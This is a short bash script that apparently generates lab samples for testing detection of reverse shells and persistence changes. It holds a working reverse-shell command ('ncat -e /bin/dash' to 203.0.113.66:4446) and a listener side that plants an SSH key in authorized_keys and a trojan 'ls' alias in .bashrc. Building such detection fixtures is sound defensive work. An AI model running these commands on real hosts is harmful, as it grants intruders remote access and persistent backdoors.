#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change,reverse-shell half=report tool=ncat,dash far=out ready=out:4446 seconds=18 parts=dns,nas,outside-web before=yes
# Somebody outside types into a shell that called back: a key and a line of .bashrc; the host's root is a folder of the lab.
# config: host_root: {dir}/host
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
if [ "$1" = out ]; then (sleep 4; echo "cd $LAB/host/root"; sleep 2; echo "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILab lab >> .ssh/authorized_keys"; sleep 2; echo "echo 'alias ls=/tmp/.ls' >> .bashrc"; sleep 3) | timeout 30 nc -l 203.0.113.66 4446 >/dev/null; exit 0; fi
timeout 16 ncat -e /bin/dash 203.0.113.66 4446; true
